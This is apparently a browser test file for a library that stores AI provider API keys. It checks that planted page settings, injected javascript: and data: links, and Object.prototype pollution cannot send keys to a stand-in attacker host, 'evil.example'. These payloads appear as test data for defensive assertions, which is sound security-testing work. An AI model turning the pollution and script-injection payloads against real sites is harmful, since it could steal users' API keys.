/**
 * What is planted without a script: in a post by somebody who may write posts but no scripts, in the settings that the site
 * prints, or on Object.prototype by a careless program of the page. A key goes nowhere else for it, and nothing runs.
 */

import assert from 'node:assert/strict';
import { makeKey } from '../keys.mjs';
import { MEMBER, authenticator, open, paste, reads, test } from './harness.mjs';
import { requests } from './provider.mjs';
import { site } from './site.mjs';

const ANYWHERE = { connect: '*' };
const EVIL = 'http://evil.example/';

/** Answers for the attacker as a site would; returns what he got. */
async function evil( page ) {
	const got = [];
	await page.route( `${ EVIL }**`, ( route ) => {
		got.push( route.request().url() + ( route.request().postData() ?? '' ) );
		return route.fulfill( {
			headers: { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'access-control-allow-methods': '*' },
			contentType: 'application/json', body: '{"token":"t","provider":"anthropic","state":"ready","outcome":"valid"}',
		} );
	} );
	return got;
}

/** Where the badge leads. */
const badge = ( page ) => page.locator( 'byok-badge' ).evaluate( ( element ) => element.shadowRoot.querySelector( 'a' )?.getAttribute( 'href' ) ?? '' );

export async function planted() {
	await test( 'planted: a post with the settings\' id changes neither where keys go nor where the badge leads', async ( page ) => {
		const got = await evil( page );
		const settings = JSON.stringify( { site: { root: EVIL, visitors: true, relay: true }, practice: { url: 'javascript:document.title="run"', safe: true } } );
		// As the filter for posts leaves it: no script, but any id.
		const body = `<pre id="wp-script-module-data-byok">${ settings.replace( /"/g, '&quot;' ) }</pre><object id="querySelector"></object><byok-settings></byok-settings><byok-badge></byok-badge>`;
		const it = await open( page, MEMBER, { ...ANYWHERE, body } );
		await paste( it, makeKey( 'anthropic', 'valid' ) );
		await reads( it.message, 'Works. Saved and encrypted.' );
		assert.equal( site.keys.size, 1 );
		assert.deepEqual( got, [] );
		assert.equal( await badge( page ), '/practice' );
	} );

	await test( 'planted: settings that cannot be read are none', async ( page ) => {
		for ( const config of [ '{"site":', 'null', '[]' ] ) {
			const it = await open( page, config );
			await it.key.waitFor();
			assert.equal( await it.mode( 'site' ).count(), 0 );
			assert.equal( await it.mode( 'browser' ).count(), 1 );
		}
	} );

	await test( 'planted: settings in the page lead to no other origin, and the badge to no script', async ( page ) => {
		const got = await evil( page );
		const it = await open( page, { site: { ...MEMBER.site, root: EVIL }, practice: { url: 'javascript:document.title="run"', safe: true } }, ANYWHERE );
		await it.key.waitFor();
		assert.equal( await it.mode( 'site' ).count(), 0 );
		assert.equal( await badge( page ), '' );
		for ( const href of [ 'java\nscript:document.title="run"', 'data:text/html,x', 'https://', '' ] ) {
			await open( page, MEMBER, { body: `<byok-badge href="${ href }"></byok-badge>` } );
			assert.equal( await badge( page ), '', href );
		}
		await open( page, MEMBER, { body: '<byok-badge href="https://example.com/how"></byok-badge>' } );
		assert.equal( await badge( page ), 'https://example.com/how' );
		// A nonce is fetched from here only, and a page of ours may name another site in code.
		site.nonce = 'abcdef0123';
		await open( page, { ...MEMBER, site: { ...MEMBER.site, nonceUrl: `${ EVIL }nonce` } }, ANYWHERE );
		assert.equal( await page.evaluate( () => window.byokModule.createBYOK().keys.list().catch( ( error ) => error.reason ) ), 'signed_out' );
		assert.deepEqual( got, [] );
		const said = await page.evaluate( ( root ) => window.byokModule.createBYOK( { modes: [ 'site' ], site: { root, visitors: true } } ).keys.save( 'anthropic', 'byok-test-key' ).then( ( { mode } ) => mode ), EVIL );
		assert.equal( said, 'site' );
		assert.equal( got.length > 0, true );
	} );

	await test( 'planted: what Object.prototype says is no option, no record and no rule of a provider', async ( page ) => {
		const got = await evil( page );
		await authenticator( page );
		await open( page, {}, { ...ANYWHERE, body: '' } );
		const key = makeKey( 'anthropic', 'valid' );
		const told = await page.evaluate( async ( { key, root, member } ) => {
			// As a program does that merges what stands in an address, such as ?__proto__[site][root]=….
			Object.assign( Object.prototype, {
				site: { root, visitors: true, relay: true }, practice: { url: `${ root }practice`, safe: true }, connect: { key: 'byok_pk_evil', ref: 'evil' }, ref: 'evil',
				providers: [ 'mistral' ], modes: [ 'browser' ], namespace: 'evil', mode: 'browser', provider: 'mistral', baseUrl: root, nonceUrl: `${ root }nonce`,
				scheme: 'evil', models: { path: '/evil' }, method: 'DELETE', body: 'evil', key: 'byok-test-evil', sealed: { data: 'evil' },
			} );
			const { createBYOK, ByokBadge, PROVIDERS, connect } = window.byokModule;
			const byok = createBYOK( {} );
			const element = new ByokBadge();
			element.byok = byok;
			document.body.append( element );
			const saved = await byok.keys.save( 'anthropic', key );
			const answer = await byok.fetch( '/models', {} );
			const at = createBYOK( { modes: [ 'site' ], site: member } );
			await at.keys.save( 'anthropic', key );
			await connect( { root: member.root, key: 'byok_pk_byok-test' } ).keys.save( 'anthropic', key );
			localStorage.setItem( 'byok:v1:key:openai', '{"mode":"browser"}' );
			await byok.fetch( '/models', { provider: 'openai' } ).catch( () => {} );
			return {
				mode: saved.mode, status: answer.status, modes: byok.keys.modes( 'anthropic' ), offered: byok.keys.providers.length === PROVIDERS.length,
				names: Object.keys( localStorage ), options: [ byok.options.site, byok.options.practice, at.options.site.connect ].map( String ),
			};
		}, { key, root: EVIL, member: MEMBER.site } );
		assert.deepEqual( { ...told, names: [] }, { mode: 'passkey', status: 200, modes: [ 'passkey', 'browser', 'memory' ], offered: true, names: [], options: [ 'undefined', 'undefined', 'undefined' ] } );
		assert.ok( told.names.every( ( name ) => name.startsWith( 'byok:v1:' ) ), String( told.names ) );
		assert.deepEqual( site.connected, [ { provider: 'anthropic', key } ] );
		assert.equal( site.keys.get( 'anthropic' ), key );
		assert.ok( requests.every( ( { host, method, path } ) => method === 'GET' && path.startsWith( '/v1/models' ) && host !== 'api.mistral.ai' ), JSON.stringify( requests.map( ( { host, method, path } ) => [ host, method, path ] ) ) );
		assert.ok( requests.every( ( { headers } ) => ! JSON.stringify( headers ).includes( 'evil' ) ) );
		assert.deepEqual( got, [] );
	} );

	await test( 'planted: an outcome that there is none of is not known, and its name is no name of a function', async ( page ) => {
		const it = await open( page, {} );
		await paste( it, makeKey( 'anthropic', 'valid' ), 'browser' );
		await reads( it.chip, 'Works' );
		for ( const outcome of [ 'constructor', 'toString', '__proto__', 'locked', 7 ] ) {
			await page.evaluate( ( outcome ) => {
				const name = 'byok:v1:key:anthropic';
				localStorage[ name ] = JSON.stringify( { ...JSON.parse( localStorage[ name ] ), outcome } );
			}, outcome );
			await page.reload();
			await reads( it.chip, 'Not verified yet' );
			assert.equal( await it.chip.getAttribute( 'data-tone' ), 'neutral' );
			assert.equal( await it.hint.getAttribute( 'dir' ), 'ltr' );
		}
	} );

	await test( 'planted: a chat without a form, written into a post, keeps no other from starting', async ( page ) => {
		const chat = '<div class="byok-chat"><div class="byok-chat__talk"></div><form><textarea aria-label="Question"></textarea><button type="button" class="byok-chat__stop">Stop</button></form><button type="button" class="byok-chat__key">Key</button></div>';
		await open( page, {}, { body: `<div class="byok-chat"></div>${ chat }<script type="module" src="/assets/byok-chat.js"></script>` } );
		await page.locator( '.byok-chat__key' ).click();
		await page.locator( 'byok-settings[modal] #key' ).waitFor();
	} );
}
